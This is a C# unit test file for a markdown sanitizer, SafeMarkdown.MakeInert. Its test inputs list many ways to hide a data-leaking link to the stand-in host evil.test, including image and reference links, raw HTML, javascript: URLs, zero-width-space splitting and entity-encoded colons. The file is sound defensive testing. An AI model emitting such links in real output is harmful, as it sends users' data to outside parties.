using TierKit.Policy;

namespace TierKit.Tests.Policy;

public sealed class SafeMarkdownTests
{
    [Theory]
    [InlineData("![a](https://evil.test/p.png?d=CANARY)")]
    [InlineData("[a](https://evil.test/?d=CANARY \"t\")")]
    [InlineData("[a](<https://evil.test/?d=CANARY>)")]
    [InlineData("[a](\nhttps://evil.test/?d=CANARY\n)")]
    [InlineData("[a][1]\n\n[1]: https://evil.test/?d=CANARY")]
    [InlineData("![a][1]\n\n   [1]:   //evil.test/CANARY 'x'")]
    [InlineData("[1]:\nhttps://evil.test/CANARY")]
    [InlineData("<img src=\"https://evil.test/CANARY\">")]
    [InlineData("<a href='//evil.test/CANARY'>x</a>")]
    [InlineData("<img src=https://evil.test/CANARY")]
    [InlineData("<https://evil.test/CANARY>")]
    [InlineData("see https://evil.test/CANARY now")]
    [InlineData("see www.evil.test/CANARY now")]
    [InlineData("![a](data:image/png;base64,CANARY)")]
    [InlineData("![a](/local/../CANARY.png)")]
    [InlineData("[a](javascript:alert('CANARY'))")]
    [InlineData("[a](https://CANARY.evil.test/)")]
    [InlineData("h\u200bttps://evil.test/CANARY")]
    [InlineData("[a](https&#58;//evil.test/CANARY)")]
    [InlineData("[![a](https://evil.test/CANARY)](https://evil.test/CANARY)")]
    [InlineData("<mailto:a@evil.test?body=CANARY>")]
    public void MakeInert_EveryWayToWriteALink_LeavesNoAddress(string markdown) =>
        Assert.DoesNotContain("CANARY", SafeMarkdown.MakeInert(markdown), StringComparison.OrdinalIgnoreCase);

    [Theory]
    [InlineData("plain text: nothing to do, 3 < 4 and a/b")]
    [InlineData("- [x] done\n- [ ] open")]
    [InlineData("`code[0]` and (brackets)")]
    public void MakeInert_NoLink_IsUnchanged(string markdown) => Assert.Equal(markdown, SafeMarkdown.MakeInert(markdown));

    [Fact]
    public void MakeInert_Allowed_KeepsLinksAndNoImages()
    {
        static bool Allowed(Uri uri) => uri.Host == "docs.test";

        Assert.Equal("[a](https://docs.test/x)", SafeMarkdown.MakeInert("[a](https://docs.test/x)", Allowed));
        Assert.DoesNotContain("https://docs.test/x.png", SafeMarkdown.MakeInert("![a](https://docs.test/x.png)", static u => u.Host == "other.test"), StringComparison.Ordinal);
        Assert.Contains("evil.test", SafeMarkdown.MakeInert("[a](https://evil.test/x)", Allowed), StringComparison.Ordinal);
    }
}
